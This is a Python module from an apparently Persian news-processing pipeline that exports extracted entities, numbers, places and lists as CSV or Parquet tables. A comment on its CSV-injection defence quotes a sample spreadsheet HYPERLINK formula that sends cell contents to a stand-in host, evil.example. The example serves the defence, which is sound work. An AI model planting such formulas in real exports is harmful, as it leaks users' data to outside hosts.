"""Documents -> tables: ``documents``, ``entities``, ``numbers``, ``places``, ``lists``.

``to_frames(documents)`` gives pandas DataFrames for library users; the batch runner writes the
same rows as CSV (UTF-8 with a BOM by default) or Parquet. Every record row carries ``doc_id``,
its span in ORIGINAL offsets (``start``, ``end``, ``text`` == original[start:end]) and
``sentence``, the original text of the sentence it comes from. Record columns follow the record
dataclasses of ``pipeline.document`` field by field (new fields show up as new columns).

One rows function (``document_rows``) feeds every output, and ``format_cell`` renders values the
same way everywhere (None -> empty, floats in shortest round-trip form, integral floats without
``.0``, booleans as ``true``/``false``): tables are byte-identical however they were computed.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import math
import os
import typing
from pathlib import Path
from typing import Any, Iterable, Sequence
from urllib.parse import urlparse

import regex

from .document import Document, Entity, Enumeration, ListItem, NumberMention, PlaceMention

Row = tuple
TableRows = dict[str, list[Row]]

TABLE_NAMES = ("documents", "entities", "numbers", "places", "lists")

DOCUMENT_COLUMNS: list[tuple[str, str]] = [
    ("doc_id", "str"), ("source", "str"), ("title", "str"), ("agency", "str"), ("dateline", "str"),
    ("published", "str"), ("url", "str"), ("chars", "int"), ("sentences", "int"),
    ("n_entities", "int"), ("n_numbers", "int"), ("n_places", "int"), ("n_lists", "int"),
    ("status", "str"), ("error", "str"), ("warning", "str"),
]

_SPAN = ("start", "end", "text")
_RENAME: dict[type, dict[str, str]] = {}


def _kind(annotation: Any) -> str:
    text = annotation if isinstance(annotation, str) else getattr(annotation, "__name__", str(annotation))
    for name in ("bool", "float", "int"):
        if regex.search(rf"\b{name}\b", text):
            return name
    return "str"


def _record_fields(cls: type, skip: Sequence[str] = ()) -> list[tuple[str, str, str]]:
    """(attribute, column, kind) of a record dataclass's own fields, span fields excluded."""
    rename = _RENAME.get(cls, {})
    hints = {f.name: f.type for f in dataclasses.fields(cls)}
    return [(name, rename.get(name, name), _kind(hints[name])) for name in hints if name not in _SPAN and name not in skip]


_ENTITY_FIELDS = _record_fields(Entity)
_NUMBER_FIELDS = _record_fields(NumberMention)
_PLACE_FIELDS = _record_fields(PlaceMention)
_LIST_FIELDS = _record_fields(Enumeration, skip=("items", "category", "stated_count"))
_ITEM_FIELDS = _record_fields(ListItem, skip=("item", "note"))


def _span_table(fields: list[tuple[str, str, str]]) -> list[tuple[str, str]]:
    return [("doc_id", "str"), ("start", "int"), ("end", "int"), ("text", "str")] + [(c, k) for _, c, k in fields] + [("sentence", "str")]


COLUMNS: dict[str, list[tuple[str, str]]] = {
    "documents": DOCUMENT_COLUMNS,
    "entities": _span_table(_ENTITY_FIELDS),
    "numbers": _span_table(_NUMBER_FIELDS),
    "places": _span_table(_PLACE_FIELDS),
    "lists": [("doc_id", "str"), ("list_index", "int"), ("category", "str"), ("stated_count", "int"),
              ("count_matches", "bool"), ("list_start", "int"), ("list_end", "int")]
             + [(c, k) for _, c, k in _LIST_FIELDS]
             + [("item_index", "int"), ("item", "str"), ("note", "str")]
             + [(c, k) for _, c, k in _ITEM_FIELDS]
             + [("start", "int"), ("end", "int"), ("text", "str"), ("sentence", "str")],
}


def columns(table: str) -> list[str]:
    return [c for c, _ in COLUMNS[table]]


# ------------------------------------------------------------------------- news headers

#: Agencies and outlets recognised in bylines, normalized spelling (the header is read on the
#: normalized text, so Arabic ي/ك are already Persian).
AGENCIES = (
    "باشگاه خبرنگاران جوان", "خبرگزاری دانشجو", "همشهری آنلاین", "اقتصاد آنلاین", "دنیای اقتصاد",
    "صدا و سیما", "عصر ایران", "ورزش سه", "خبرآنلاین", "خبر آنلاین", "جام جم", "ایرنا", "ایسنا", "ایلنا",
    "ایکنا", "ایبنا", "ایمنا", "ایانا", "هرانا", "فارس", "مهر", "تسنیم", "شانا", "میزان", "برنا", "پانا",
    "رسا", "ابنا", "تابناک", "فرارو", "همشهری", "جماران", "انتخاب", "ایرنا پلاس", "سپاه نیوز",
)
_AGENCY_BY_DOMAIN = {
    "irna.ir": "ایرنا", "isna.ir": "ایسنا", "ilna.ir": "ایلنا", "ilna.news": "ایلنا", "iqna.ir": "ایکنا",
    "ibna.ir": "ایبنا", "imna.ir": "ایمنا", "farsnews.ir": "فارس", "farsnews.com": "فارس",
    "mehrnews.com": "مهر", "tasnimnews.com": "تسنیم", "shana.ir": "شانا", "mizanonline.ir": "میزان",
    "mizanonline.com": "میزان", "borna.news": "برنا", "pana.ir": "پانا", "rasanews.ir": "رسا",
    "abna24.com": "ابنا", "tabnak.ir": "تابناک", "fararu.com": "فرارو", "hamshahrionline.ir": "همشهری آنلاین",
    "khabaronline.ir": "خبرآنلاین", "yjc.ir": "باشگاه خبرنگاران جوان", "yjc.news": "باشگاه خبرنگاران جوان",
    "varzesh3.com": "ورزش سه", "asriran.com": "عصر ایران", "snn.ir": "خبرگزاری دانشجو",
    "donya-e-eqtesad.com": "دنیای اقتصاد", "eghtesadonline.com": "اقتصاد آنلاین", "jamaran.news": "جماران",
    "entekhab.ir": "انتخاب", "iribnews.ir": "صدا و سیما", "jamejamonline.ir": "جام جم",
}
_AG = "(?:" + "|".join(regex.escape(a) for a in sorted(AGENCIES, key=len, reverse=True)) + ")"
_WORD = r"[\p{L}\p{M}\u200c]+"
_PLACE = rf"{_WORD}(?:[ \u200c]{_WORD}){{0,2}}"
_DASH = r"[-–—]"
_HEADERS = (
    # «ایرنا/ قم - ایرنا -», «ایسنا/ اصفهان -», «مهر/ تبریز:»
    regex.compile(rf"(?m)^[ \t]*(?:خبرگزاری\s+)?(?P<agency>{_AG})\s*/\s*(?P<place>{_PLACE})\s*(?:{_DASH}|:)"),
    # «تهران- ایرنا-», «قم - خبرگزاری مهر:»
    regex.compile(rf"(?m)^[ \t]*(?P<place>{_PLACE})\s*{_DASH}\s*(?:خبرگزاری\s+)?(?P<agency>{_AG})\s*(?:{_DASH}|:)"),
    # «ایسنا/ رئیس ...», «خبرگزاری فارس: رئیس ...»
    regex.compile(rf"(?m)^[ \t]*(?:خبرگزاری\s+)?(?P<agency>{_AG})\s*[/:]"),
)
_ATTRIBUTION = regex.compile(
    rf"به گزارش\s+(?:[^،,.\n]{{0,40}}?\s)??(?:خبرگزاری\s+|پایگاه خبری\s+|پایگاه اطلاع‌رسانی\s+|روزنامه\s+|سایت\s+|خبرنگار\s+)?"
    rf"(?P<agency>(?<![\p{{L}}\u200c]){_AG}(?![\p{{L}}\u200c])|«[^»\n]{{2,30}}»|\"[^\"\n]{{2,30}}\")"
    rf"(?:\s+از\s+(?P<place>{_PLACE})\s*[،,])?"
)
# A byline's «از X» names where the story was filed only when X is a place, not an office.
_NOT_A_PLACE = frozenset(
    "استانداری وزارت وزارتخانه اداره سازمان روابط ستاد دفتر شرکت دانشگاه بانک مجلس دولت پایگاه سایت "
    "خبرنگار نقل منابع مرکز معاونت شورای شورا فرمانداری شهرداری باشگاه هیئت هیات کمیته فدراسیون حوزه "
    "پلیس قرارگاه نهاد انجمن گروه بخش سرویس قول زبان رسانه خبرگزاری روزنامه کانال صفحه".split()
)
_HEAD_CHARS = 800


def news_header(text: str, url: str = "") -> tuple[str, str]:
    """(agency, dateline) from an article's byline: «ایرنا/ قم - ایرنا -» -> ("ایرنا", "قم");
    «تهران- ایرنا-» -> ("ایرنا", "تهران"); «به گزارش خبرگزاری فارس از تبریز،» -> ("فارس", "تبریز");
    the URL's domain when the text names no agency. Empty strings when nothing is found."""
    head = text[:_HEAD_CHARS]
    agency = dateline = ""
    for pattern in _HEADERS:
        m = pattern.search(head)
        if m:
            agency = m.group("agency")
            place = m.groupdict().get("place") or ""
            if place and place.split()[0] not in _NOT_A_PLACE:
                dateline = place
            break
    if not agency or not dateline:
        m = _ATTRIBUTION.search(text[:2 * _HEAD_CHARS])
        if m:
            found = m.group("agency").strip("«»\"")
            if not agency:
                agency = found
            if not dateline and found == agency and m.group("place") and m.group("place").split()[0] not in _NOT_A_PLACE:
                dateline = m.group("place")
    if not agency and url:
        host = (urlparse(url).hostname or "").lower()
        while host and host not in _AGENCY_BY_DOMAIN and "." in host:
            host = host.split(".", 1)[1]
        agency = _AGENCY_BY_DOMAIN.get(host, "")
    return agency, dateline


def _title(doc: Document) -> str:
    from .readers import clip_title

    title = str(doc.meta.get("title") or "")
    if title:
        return clip_title(title)
    for line in doc.original[:10_000].splitlines():
        if line.strip():
            return clip_title(line)
    return ""


# ----------------------------------------------------------------------------- rows


def document_rows(doc: Document) -> TableRows:
    """The rows one processed Document contributes to each table (values, not yet formatted)."""
    doc_id = doc.doc_id
    sentence = doc.sentence_text
    meta = doc.meta
    agency, dateline = news_header(doc.text, str(meta.get("url") or ""))
    out: TableRows = {name: [] for name in TABLE_NAMES}
    out["documents"].append((
        doc_id, str(meta.get("source") or ""), _title(doc), agency, dateline,
        str(meta.get("published") or ""), str(meta.get("url") or ""), len(doc.original), len(doc.sentences),
        len(doc.entities), len(doc.numbers), len(doc.places), len(doc.lists), "ok", "", str(meta.get("warning") or ""),
    ))
    for table, records, fields in (("entities", doc.entities, _ENTITY_FIELDS),
                                   ("numbers", doc.numbers, _NUMBER_FIELDS),
                                   ("places", doc.places, _PLACE_FIELDS)):
        rows = out[table]
        for r in records:
            rows.append((doc_id, r.start, r.end, r.text, *(getattr(r, a) for a, _, _ in fields), sentence(r.start)))
    rows = out["lists"]
    for li, lst in enumerate(doc.lists, start=1):
        head = (doc_id, li, lst.category, lst.stated_count, lst.count_matches, lst.start, lst.end,
                *(getattr(lst, a) for a, _, _ in _LIST_FIELDS))
        if not lst.items:  # a list whose items were not found still shows up, with empty item cells
            rows.append((*head, None, None, None, *(None for _ in _ITEM_FIELDS), lst.start, lst.end, lst.text, sentence(lst.start)))
        for ii, item in enumerate(lst.items, start=1):
            rows.append((*head, ii, item.item, item.note, *(getattr(item, a) for a, _, _ in _ITEM_FIELDS),
                         item.start, item.end, item.text, sentence(item.start)))
    return out


def error_rows(doc_id: str, source: str, error: str, *, title: str = "", published: str = "", url: str = "",
               chars: int | None = None, warning: str = "") -> TableRows:
    """The single documents row of a record that failed, with its message."""
    out: TableRows = {name: [] for name in TABLE_NAMES}
    out["documents"].append((doc_id, source, title, "", "", published, url, chars, None, None, None, None, None, "error", error, warning))
    return out


def to_frames(documents: Iterable[Document]) -> dict[str, "pd.DataFrame"]:  # noqa: F821
    """The five tables for processed Documents, as DataFrames with nullable dtypes. A document's
    ``meta`` may carry ``source``, ``title``, ``published`` and ``url``."""
    rows: TableRows = {name: [] for name in TABLE_NAMES}
    for doc in documents:
        for name, table_rows in document_rows(doc).items():
            rows[name].extend(table_rows)
    return frames(rows)


_DTYPES = {"str": "string", "int": "Int64", "float": "Float64", "bool": "boolean"}


def frames(rows: TableRows) -> dict[str, "pd.DataFrame"]:  # noqa: F821
    import pandas as pd

    out = {}
    for name in TABLE_NAMES:
        cols = COLUMNS[name]
        data = rows.get(name, [])
        df = pd.DataFrame.from_records(data, columns=[c for c, _ in cols]) if data else pd.DataFrame({c: [] for c, _ in cols})
        out[name] = df.astype({c: _DTYPES[k] for c, k in cols})
    return out


# ------------------------------------------------------------------------------ output


def format_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value):
            return ""
        if value.is_integer() and abs(value) < 1e15:
            return str(int(value))
        return repr(value)
    return str(value)


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, "CSV
# injection"): a title «=HYPERLINK("http://evil.example/?"&A1,"x")» would become a live link
# that sends the neighbouring cells away. "-" starts a formula too («--05-21» evaluates to -16),
# except in a plain negative number.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = regex.compile(r"-[0-9]+(?:\.[0-9]+)?")


def neutralize(cell: str) -> str:
    """A text cell a spreadsheet will show as text: a leading ``'`` before ``= + - @``, tab or
    CR (as OWASP recommends); plain negative numbers are left alone. CSV only: Parquet keeps
    the raw text."""
    if cell.startswith(_FORMULA_START) and not (cell[0] == "-" and _PLAIN_NUMBER.fullmatch(cell)):
        return "'" + cell
    return cell


def _csv_cell(value: Any) -> str:
    return neutralize(value) if isinstance(value, str) else format_cell(value)


class CsvTable:
    """One CSV table written in whole rows: every ``write`` ends with a flush, so a run that is
    killed leaves a file of complete rows (at worst, a last partial line that ``--resume`` drops).
    Text cells are neutralized against formula injection (``neutralize``)."""

    def __init__(self, path: Path, table: str, encoding: str = "utf-8-sig", append: bool = False):
        self.path = path
        self.columns = columns(table)
        self.encoding = "utf-8" if encoding.lower().replace("_", "-") in ("utf-8", "utf8") else encoding
        fresh = not (append and path.exists() and path.stat().st_size > 0)
        self.fh = path.open("wb" if fresh else "ab")
        self.rows_written = 0
        if fresh:
            self.fh.write(self._encode(self.columns, first=True))
            self.fh.flush()

    def _encode(self, *rows: Sequence[Any], first: bool = False) -> bytes:
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        for row in rows:
            writer.writerow([_csv_cell(v) for v in row])
        data = buf.getvalue()
        if self.encoding == "utf-8-sig":
            data = "\ufeff" + data if first else data
        codec = "utf-8" if self.encoding == "utf-8-sig" else self.encoding
        try:
            return data.encode(codec)
        except UnicodeEncodeError:  # a lone surrogate that got past the readers: never a crash
            return data.encode(codec, "replace")

    def write(self, rows: Sequence[Row]) -> None:
        if rows:
            self.fh.write(self._encode(*rows))
            self.fh.flush()
            self.rows_written += len(rows)

    def close(self) -> None:
        """Flush to disk and close; raises OSError (a full disk...) rather than hiding it."""
        try:
            self.fh.flush()
            os.fsync(self.fh.fileno())
        finally:
            self.fh.close()

    def abort(self) -> None:
        try:
            self.fh.close()
        except OSError:
            pass


class ParquetTable:
    """One Parquet table, streamed as row groups (one per ``write``, i.e. per finished chunk of
    documents) into ``NAME.parquet.part``. ``finish`` closes it (raising if the footer cannot be
    written, e.g. on a full disk) and ``commit`` renames it into place: a table is never in
    place unless it was closed without error. The batch runner finishes every table before it
    commits any, so the five tables in a folder always come from the same run."""

    def __init__(self, path: Path, table: str, existing: Path | None = None, keep: set[str] | None = None):
        try:
            import pyarrow as pa
            import pyarrow.parquet as pq
        except ImportError:
            raise RuntimeError("--format parquet needs pyarrow: pip install 'persian-news-pipeline[parquet]'") from None
        self.pa, self.pq = pa, pq
        self.path = path
        self.table = table
        self.cols = COLUMNS[table]
        types = {"str": pa.string(), "int": pa.int64(), "float": pa.float64(), "bool": pa.bool_()}
        self.schema = pa.schema([(c, types[k]) for c, k in self.cols])
        self.part = path.with_name(path.name + ".part")
        self.rows_written = 0
        self.writer = pq.ParquetWriter(self.part, self.schema)
        if existing is not None and existing.exists():
            self._copy(existing, keep)

    def _copy(self, existing: Path, keep: set[str] | None) -> None:
        """The rows of a previous run's table (``--resume``), without the records of documents
        whose documents row never made it (a run stopped between the two writes)."""
        import pyarrow.compute as pc

        old = self.pq.ParquetFile(existing)
        if old.schema_arrow.names != self.schema.names:
            raise ValueError(f"{existing} was written with other columns")
        wanted = self.pa.array(sorted(keep), type=self.pa.string()) if keep is not None else None
        for i in range(old.num_row_groups):
            group = old.read_row_group(i).cast(self.schema)
            if wanted is not None:
                group = group.filter(pc.is_in(group.column("doc_id"), value_set=wanted))
            if group.num_rows:
                self.writer.write_table(group)
                self.rows_written += group.num_rows

    def write(self, rows: Sequence[Row]) -> None:
        if rows:
            arrays = [self.pa.array([self._clean(r[i], k) for r in rows], type=self.schema.field(i).type) for i, (_, k) in enumerate(self.cols)]
            self.writer.write_table(self.pa.Table.from_arrays(arrays, schema=self.schema))
            self.rows_written += len(rows)

    @staticmethod
    def _clean(value: Any, kind: str) -> Any:
        if value is None or (isinstance(value, float) and math.isnan(value)):
            return None
        if isinstance(value, str):  # pyarrow refuses lone surrogates
            try:
                value.encode("utf-8")
            except UnicodeEncodeError:
                return value.encode("utf-8", "replace").decode("utf-8")
        return value

    def finish(self) -> None:
        """Write the footer; raises OSError when it cannot (the table is then not committed)."""
        self.writer.close()
        with open(self.part, "rb") as fh:
            os.fsync(fh.fileno())

    def commit(self) -> None:
        os.replace(self.part, self.path)

    def abort(self) -> None:
        try:
            self.writer.close()
        except Exception:
            pass
        try:
            self.part.unlink()
        except OSError:
            pass

    def close(self) -> None:
        self.finish()
        self.commit()


if typing.TYPE_CHECKING:  # pragma: no cover
    import pandas as pd  # noqa: F401
